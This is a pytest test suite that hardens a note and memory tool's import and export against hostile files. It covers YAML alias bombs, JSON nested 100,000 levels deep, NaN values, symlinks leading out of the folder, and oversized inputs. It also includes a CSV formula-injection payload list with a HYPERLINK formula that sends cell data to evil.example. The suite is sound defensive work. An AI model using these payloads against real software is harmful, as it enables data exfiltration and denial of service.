"""Issue 37 (hardening III), imports and exports: what a file from another tool may hold
(YAML aliases, deep nesting, NaN, huge cells, symlinks) and what an export could not carry.
Every test drives the real CLI in process (``main(argv)``) or the engine on a real SQLite file,
and fails without its fix."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from seahorse import Engine, InvalidInput, Settings
from seahorse.adapters.cli import main


class Cli:
    """``seahorse ...`` in this process, on one SQLite file, with the hash embedder."""

    def __init__(self, db: Path, capsys) -> None:
        self.db, self.capsys = db, capsys

    def run(self, *argv: str, db: Path | None = None) -> tuple[int, str, str]:
        try:
            code = main([*argv, "--db", str(db or self.db)])
        except SystemExit as exc:  # `export` to stdout ends so
            code = exc.code or 0
        out = self.capsys.readouterr()
        return code, out.out, out.err

    def json(self, *argv: str, db: Path | None = None) -> dict:
        code, out, err = self.run(*argv, "--json", db=db)
        assert code == 0, err
        assert "Traceback" not in err, err
        return json.loads(out)

    def fails(self, *argv: str) -> str:
        """The one line a refused command prints."""
        code, out, err = self.run(*argv)
        assert code != 0, out
        assert len(err.strip().splitlines()) == 1 and "Traceback" not in err, err
        return err.strip()


@pytest.fixture
def cli(tmp_path: Path, capsys, monkeypatch) -> Cli:
    monkeypatch.setenv("SEAHORSE_EMBEDDER", "hash")
    return Cli(tmp_path / "kg.db", capsys)


NOTE = """---
title: {title}
---

# {title}

{body}
"""


def _notes(root: Path, notes: dict[str, str]) -> Path:
    for rel, text in notes.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    return root


# ----- 16. a YAML alias bomb in front matter -------------------------------------------------
def _alias_bomb(levels: int) -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels + 1):
        lines.append(f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]")
    return "---\ntitle: Bomb\n" + "\n".join(lines) + "\n---\n\nA note with a bomb in it.\n"


def test_yaml_aliases_are_refused_and_front_matter_is_capped(tmp_path: Path, cli) -> None:
    """Six levels of aliases are 9**6 strings once expanded (a 6.9 MB metadata blob; nine
    levels took the import to 2.9 GB and a MemoryError, not run here): the note is skipped,
    with why, and the rest is imported. So is a front matter over the cap, and one nested
    too deep (PyYAML composes recursively)."""
    bomb = _alias_bomb(6)
    assert len(bomb) < 400
    root = _notes(tmp_path / "notes", {
        "bomb.md": bomb,
        "huge.md": "---\ntitle: Huge\nblob: " + "x" * 70_000 + "\n---\n\nText.\n",
        "deep.md": "---\ntitle: Deep\nv: " + "[" * 200 + "]" * 200 + "\n---\n\nText.\n",
        "ok.md": NOTE.format(title="Fine", body="An anchor alone is fine: &keep is just text."),
        "anchor.md": "---\ntitle: Anchored\nlist: &l [a, b]\n---\n\nAnchors without aliases are read.\n",
    })
    rep = cli.json("import", "--from", "basic-memory", str(root))
    why = {s["at"]: s["reason"] for s in rep["skipped_records"]}
    assert set(why) == {"bomb.md", "huge.md", "deep.md"}, why
    assert "alias (line 4)" in why["bomb.md"]
    assert "over the 65,536" in why["huge.md"]
    assert "deeper than 32" in why["deep.md"]
    assert rep["documents"] == 2
    doc = cli.json("documents", "show", "basic-memory:anchor")
    assert doc["metadata"]["basic_memory"]["front_matter"]["list"] == ["a", "b"]
    assert cli.db.stat().st_size < 2_000_000


# ----- 8. an export carries each record's content, or says what it could not ----------------
PROSE = """---
title: Offsite Planning
type: meeting
permalink: meetings/offsite
tags: [planning, travel]
status: draft
---

# Offsite Planning

The team meets in Porto for three days in May; the venue is a converted sardine cannery.

Budget talks moved to the finance sync with [[Finance Team]].
"""
OBSERVED = """---
title: Search Design
type: spec
---

# Search Design

The search service ranks passages with a personalized PageRank.

## Observations
- [decision] Queries time out after 800 milliseconds #performance
- [requirement] Results cite their source (agreed at the March review)

## Relations
- implements [[Retrieval Requirements]] (since v2)
"""


def test_export_to_server_memory_carries_a_notes_text_or_says_what_it_lost(tmp_path: Path, cli) -> None:
    root = _notes(tmp_path / "notes", {"meetings/offsite.md": PROSE, "specs/search.md": OBSERVED})
    assert cli.json("import", "--from", "basic-memory", str(root))["documents"] == 2
    sm = tmp_path / "memory.jsonl"
    sm.write_text(json.dumps({"type": "entity", "name": "Porto", "entityType": "city",
                              "observations": ["Hosts the offsite"]}) + "\n")
    assert cli.json("import", "--from", "server-memory", str(sm))["documents"] == 1
    cli.json("memory", "add", "editor", "Helix", "--tag", "tools")
    cli.json("memory", "add", "editor", "Emacs")

    out = tmp_path / "back.jsonl"
    rep = cli.json("export", "--to", "server-memory", "--out", str(out))
    ent = {r["name"]: r for r in map(json.loads, out.read_text().splitlines()) if r["type"] == "entity"}
    # The prose note's text is its entity's observations (it was `[]`).
    assert ent["Offsite Planning"]["observations"] == [
        "The team meets in Porto for three days in May; the venue is a converted sardine cannery.",
        "Budget talks moved to the finance sync with [[Finance Team]]."]
    # An observation keeps its tags and context; the prose comes first.
    assert ent["Search Design"]["observations"] == [
        "The search service ranks passages with a personalized PageRank.",
        "[decision] Queries time out after 800 milliseconds #performance",
        "[requirement] Results cite their source (agreed at the March review)"]
    # What an entity cannot hold is reported, per record; the memory server's own entity and
    # a memory with its kind and value only lose nothing.
    lost = {r["record"]: r["fields"] for r in rep["not_carried_records"]}
    assert rep["not_carried"] == len(lost) == 3, lost
    assert lost["basic-memory:meetings/offsite"] == ["source", "tags", "front_matter.status"]
    assert lost["basic-memory:specs/search"] == ["source", "relations.context"]
    assert lost["memory:global/editor"] == ["tags", "history (1 earlier value(s))"]

    # In human mode each is a line on stderr, and so when the export goes to stdout.
    code, stdout, err = cli.run("export", "--to", "server-memory", "--out", str(out))
    assert code == 0 and "3 record(s) not carried whole" in stdout
    assert ("export --to server-memory: basic-memory:meetings/offsite not carried whole, without its "
            "source, tags, front_matter.status") in err
    code, stdout, err = cli.run("export", "--to", "server-memory")
    assert code == 0 and stdout == out.read_text() and len(err.splitlines()) == 3

    # Rows hold documents only: each memory is named, not dropped without a word.
    rows = cli.json("export", "--to", "jsonl", "--out", str(tmp_path / "rows.jsonl"))
    assert rows["rows"] == 3 and rows["not_carried"] == 1
    assert rows["not_carried_records"][0]["record"] == "memory:global/editor"


# ----- 18. deep JSON, NaN ----------------------------------------------------------------------
def _strict(line: str):
    def refuse(name):
        raise AssertionError(f"{name} in an export line: not JSON")
    return json.loads(line, parse_constant=refuse)


def _deep(levels: int) -> dict:
    value: object = "bottom"
    for _ in range(levels):
        value = {"k": value}
    return value  # type: ignore[return-value]


def test_deeply_nested_json_is_refused_in_one_line_and_nothing_is_written(tmp_path: Path, cli,
                                                                          db_fingerprint) -> None:
    cli.json("index", "--text", "A note stored before the bad imports.")
    before = db_fingerprint(cli.db)
    bomb = '{"text": "deep", "metadata": ' + "[" * 100_000 + "]" * 100_000 + "}"
    rows = tmp_path / "rows.jsonl"
    rows.write_text(json.dumps({"text": "fine"}) + "\n" + bomb + "\n")
    graph = tmp_path / "memory.jsonl"
    graph.write_text('{"type": "entity", "name": "x", "observations": ' + "[" * 100_000 + "]" * 100_000
                     + "}\n")
    turns = tmp_path / "turns.jsonl"
    turns.write_text(bomb + "\n")
    dump = tmp_path / "dump.jsonl"
    dump.write_text(bomb + "\n")
    assert "rows.jsonl:2 is not JSON (nested too deeply)" in cli.fails("import", "--from", "jsonl", str(rows))
    assert "memory.jsonl:1 is not JSON (nested too deeply)" in cli.fails(
        "import", "--from", "server-memory", str(graph))
    assert "turns.jsonl:1 is not JSON (nested too deeply)" in cli.fails("add-conversation", str(turns))
    assert "nested too deeply" in cli.fails("import", str(dump))
    assert db_fingerprint(cli.db) == before

    # Deep enough to parse here, too deep for a reader with less stack left: the record is
    # skipped with why, the rest imported; what is stored reads back everywhere.
    rows.write_text(json.dumps({"text": "fine"}) + "\n"
                    + json.dumps({"text": "deep", "metadata": _deep(300)}) + "\n")
    rep = cli.json("import", "--from", "jsonl", str(rows))
    assert rep["added"] == 1 and rep["skipped_records"] == [
        {"at": "line 2", "reason": "metadata nests deeper than 64 levels"}]
    cli.json("export", "--out", str(dump))
    assert len(cli.json("import", str(dump), db=tmp_path / "fresh.db")["skips"]) == 0


def test_nan_in_front_matter_is_kept_as_text_and_nan_in_json_is_refused(tmp_path: Path, cli) -> None:
    root = _notes(tmp_path / "notes", {"scores.md": "---\ntitle: Scores\nscore: .nan\nceiling: .inf\n"
                                                    "floor: -.INF\nratio: 0.5\n---\n\nThe quiz scores.\n"})
    assert cli.json("import", "--from", "basic-memory", str(root))["added"] == 1
    fm = cli.json("documents", "show", "basic-memory:scores")["metadata"]["basic_memory"]["front_matter"]
    assert (fm["score"], fm["ceiling"], fm["floor"], fm["ratio"]) == (".nan", ".inf", "-.INF", 0.5)
    for to in ("seahorse", "server-memory", "jsonl"):
        code, out, _err = cli.run("export", "--to", to)
        assert code == 0 and [_strict(x) for x in out.splitlines()]

    # A NaN stored before metadata was checked (by an older version) reads as its text.
    import sqlite3

    with sqlite3.connect(cli.db) as db:
        db.execute("""UPDATE documents SET metadata='{"score": NaN, "top": -Infinity}'""")
    db.close()
    assert cli.json("documents", "show", "basic-memory:scores")["metadata"] == {"score": "NaN",
                                                                                "top": "-Infinity"}
    for to in ("seahorse", "server-memory", "jsonl"):
        code, out, _err = cli.run("export", "--to", to)
        assert code == 0 and [_strict(x) for x in out.splitlines()]

    rows = tmp_path / "rows.jsonl"
    rows.write_text('{"text": "a score", "score": NaN}\n')
    assert "rows.jsonl:1 is not JSON (NaN is not a JSON number)" in cli.fails(
        "import", "--from", "jsonl", str(rows))
    with Engine(Settings(db_path=tmp_path / "lib.db", embedder="hash")) as engine:
        with pytest.raises(InvalidInput, match=r"metadata.score is nan, which JSON has no number for"):
            engine.add_document("The quiz had a score.", metadata={"score": float("nan")})
        with pytest.raises(InvalidInput, match="metadata must be a JSON object"):
            engine.add_document("The quiz had a score.", metadata=["score"])
        assert engine.stats()["documents"] == 0


# ----- 18. a boolean is not a document id (MCP) ----------------------------------------------
def test_mcp_refuses_a_boolean_id_and_deletes_nothing(tmp_path: Path, monkeypatch) -> None:
    """`delete_document {"id": true}` deleted document 1: the SDK read true as the integer 1."""
    import asyncio

    from mcp import Client

    from seahorse.adapters.server import build_server

    monkeypatch.setenv("SEAHORSE_EMBEDDER", "hash")
    db = tmp_path / "kg.db"

    async def session() -> None:
        async with Client(build_server(str(db))) as client:
            res = await client.call_tool("add_document", {"text": "Sourdough rises with wild yeast.",
                                                          "source": "bread"})
            assert not res.is_error and res.structured_content["doc_id"] == 1
            for tool, args in (("delete_document", {"id": True}), ("delete_document", {"id": False}),
                               ("get", {"id": True}), ("expand", {"id": True})):
                res = await client.call_tool(tool, args)
                assert res.is_error, (tool, args, res.structured_content)
                text = res.content[0].text
                assert "a boolean is not an id" in text and "Traceback" not in text, text
            listed = await client.call_tool("list_documents", {})
            assert [d["source"] for d in listed.structured_content["items"]] == ["bread"]
            # An integer and a source still name it.
            res = await client.call_tool("delete_document", {"id": "bread"})
            assert not res.is_error and res.structured_content["doc_id"] == 1

    asyncio.run(session())


# ----- 18. symlinks out of the folder: never followed, as `index --dir` ---------------------
def _folder_with_links(tmp_path: Path) -> tuple[Path, Path]:
    outside = tmp_path / "private"
    (outside / "deep").mkdir(parents=True)
    (outside / "secret.md").write_text("# Secret\n\nThe vault code is 4711.\n")
    (outside / "deep" / "diary.md").write_text("# Diary\n\nThe diary says the vault code is 4711.\n")
    notes = tmp_path / "notes"
    notes.mkdir()
    (notes / "ok.md").write_text("# Ok\n\nA plain note about sourdough.\n")
    (notes / "secret.md").symlink_to(outside / "secret.md")
    (notes / "linked").symlink_to(outside / "deep", target_is_directory=True)
    return notes, outside


def test_basic_memory_import_never_follows_a_symlink(tmp_path: Path, cli) -> None:
    notes, _outside = _folder_with_links(tmp_path)
    rep = cli.json("import", "--from", "basic-memory", str(notes))
    assert rep["documents"] == 1
    assert {s["at"]: s["reason"] for s in rep["skipped_records"]} == {
        "secret.md": "symlink (not followed)", "linked": "symlink (not followed)"}
    code, out, _err = cli.run("export")
    assert code == 0 and "4711" not in out


def test_watch_never_follows_a_symlink(tmp_path: Path) -> None:
    from seahorse.code.watch import Watcher

    notes, outside = _folder_with_links(tmp_path)
    with Engine(Settings(db_path=tmp_path / "kg.db", embedder="hash")) as eng:
        watcher = Watcher(eng.code_index, eng.ingest, eng.store, [notes], mode="docs")
        target = watcher.targets[0]
        with eng.store.atomic():  # the first index (index --dir) already refuses them
            assert watcher.index(target, [])["added"] == 1
        (notes / "new.md").write_text("# New\n\nA new note about rye starters.\n")
        (notes / "later.md").symlink_to(outside / "secret.md")
        events = [("added", notes / "secret.md"), ("modified", notes / "linked" / "diary.md"),
                  ("added", notes / "later.md"), ("added", notes / "new.md")]
        with eng.store.atomic():
            assert watcher.index(target, events) == {"added": 1, "updated": 0, "removed": 0}
        assert sorted(d["source"] for d in eng.list_documents()["items"]) == [
            str(notes.resolve() / "new.md"), str(notes.resolve() / "ok.md")]
        assert not eng.search("What is the vault code?", refuse=False).hits or all(
            "4711" not in h.text for h in eng.search("What is the vault code?", refuse=False).hits)


# ----- 18. CSV: formulas, long cells -------------------------------------------------------------
RISKY = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "+1 555 0100 is the support line",
         "-5 degrees at night in the hut", "@SUM(A1:A9) leaked into the notes",
         "'quoted text stays as it is", "'=a quote before a formula", "''two quotes",
         "A plain note about sourdough"]


def test_csv_export_never_writes_a_formula_and_reads_back_exact(tmp_path: Path, cli) -> None:
    rows = tmp_path / "rows.jsonl"
    rows.write_text("".join(json.dumps({"text": t, "title": t[:12], "source": f"s{i}", "tags": ["-x", "y"]})
                            + "\n" for i, t in enumerate(RISKY)))
    assert cli.json("import", "--from", "jsonl", str(rows))["added"] == len(RISKY)
    out = tmp_path / "out.csv"
    assert cli.json("export", "--to", "csv", "--out", str(out))["rows"] == len(RISKY)
    import csv

    with out.open(newline="") as f:
        cells = [c for row in list(csv.reader(f))[1:] for c in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert "'=HYPERLINK(" in out.read_text() and "'-x;y" in out.read_text()
    # Read back: the same texts, titles and tags, and the same file again.
    fresh = tmp_path / "fresh.db"
    assert cli.json("import", "--from", "csv", str(out), db=fresh)["added"] == len(RISKY)
    for text in RISKY:
        i = RISKY.index(text)
        doc = cli.json("documents", "show", f"s{i}", db=fresh)
        assert (doc["text"], doc["title"], doc["tags"]) == (text, text[:12].strip(), ["-x", "y"])
    again = tmp_path / "again.csv"
    cli.json("export", "--to", "csv", "--out", str(again), db=fresh)
    assert again.read_text() == out.read_text()


def test_a_csv_cell_over_131072_characters_does_not_refuse_the_file(tmp_path: Path, cli) -> None:
    import csv

    long_text = ("The field notes go on about the hut's stove and the long winter. " * 3000)[:200_000]
    src = tmp_path / "notes.csv"
    with src.open("w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["title", "text"])
        w.writerow(["Long", long_text])
        w.writerow(["Short", "A short note about the hut's roof."])
    rep = cli.json("import", "--from", "csv", str(src))
    assert (rep["added"], rep["skipped"]) == (2, 0)
    assert len(cli.json("documents", "show", "csv:notes#2")["text"]) > 190_000
    assert csv.field_size_limit() == 131072  # the process's limit is left as it was


# ----- 18. an error quotes its input, never 100 KB of it ----------------------------------------
def test_errors_and_skip_reasons_never_echo_a_100_kb_input(tmp_path: Path, cli, monkeypatch) -> None:
    import asyncio

    from mcp import Client

    from seahorse.adapters.server import build_server

    big = "Q" * 100_000
    cli.json("index", "--text", "Sourdough rises with wild yeast.", "--source", "bread")
    for argv in (("documents", "show", big), ("delete-document", big),
                 ("import", "--from", "jsonl", str(tmp_path / "x.jsonl"), "--field", big),
                 ("search", "sourdough", "--kind", big), ("export", "--to", big)):
        line = cli.fails(*argv)
        assert len(line) < 1200 and "QQQQ" in line, (argv[0], len(line))
    assert "no document 'QQQ" in cli.fails("documents", "show", big)
    assert "(100,002 characters)" in cli.fails("documents", "show", big)  # the cut says so

    graph = tmp_path / "memory.jsonl"
    entity = {"type": "entity", "name": big, "entityType": "x", "observations": []}
    graph.write_text(json.dumps(entity) + "\n" + json.dumps(entity) + "\n")
    rep = cli.json("import", "--from", "server-memory", str(graph))
    assert rep["skipped"] == 1 and len(rep["skipped_records"][0]["reason"]) < 400
    assert "already comes from line 1" in rep["skipped_records"][0]["reason"]

    monkeypatch.setenv("SEAHORSE_EMBEDDER", "hash")

    async def session() -> None:
        async with Client(build_server(str(cli.db))) as client:
            for tool, args in (("delete_document", {"id": big}), ("get_references", {"name": big}),
                               ("search", {"query": "bread", "kinds": ["passage"], "cursor": big})):
                res = await client.call_tool(tool, args)
                assert res.is_error and len(res.content[0].text) < 1200, (tool, len(res.content[0].text))

    asyncio.run(session())


# ----- the input read a line at a time ---------------------------------------------------------
def test_a_line_separator_inside_a_json_string_does_not_split_the_record(tmp_path: Path, cli) -> None:
    """The memory server (JavaScript's JSON.stringify) writes U+2028 and U+0085 raw inside a
    string, as JSON allows. The file is read a line at a time (never whole); before, its whole
    text went through str.splitlines, which splits there too, and the import refused the file
    ("line 2 is not JSON"). A byte that is not UTF-8 still refuses it in one line."""
    graph = tmp_path / "memory.jsonl"
    odd = "Ann paints\u2028murals\x85and\u2029signs."
    lines = [{"type": "entity", "name": "Ann", "entityType": "person", "observations": [odd]},
             {"type": "entity", "name": "Bo", "entityType": "person", "observations": ["Bo sails."]},
             {"type": "relation", "from": "Ann", "to": "Bo", "relationType": "knows"}]
    graph.write_text("\n".join(json.dumps(x, ensure_ascii=False) for x in lines) + "\n", encoding="utf-8")
    rep = cli.json("import", "--from", "server-memory", str(graph))
    assert (rep["added"], rep["relations"], rep["skipped"]) == (2, 1, 0), rep
    out = tmp_path / "back.jsonl"
    cli.json("export", "--to", "server-memory", "--out", str(out))
    back = [json.loads(x) for x in out.read_text(encoding="utf-8").split("\n") if x.strip()]
    assert next(x for x in back if x.get("name") == "Ann")["observations"] == [odd]
    rows = tmp_path / "rows.jsonl"
    rows.write_text(json.dumps({"text": odd, "source": "odd"}, ensure_ascii=False) + "\n", encoding="utf-8")
    assert cli.json("import", "--from", "jsonl", str(rows))["added"] == 1
    bad = tmp_path / "bad.jsonl"
    bad.write_bytes(json.dumps(lines[1]).encode() + b"\n" + b'{"type": "entity", "name": "\xff"}\n')
    assert "is not UTF-8 text" in cli.fails("import", "--from", "server-memory", str(bad))
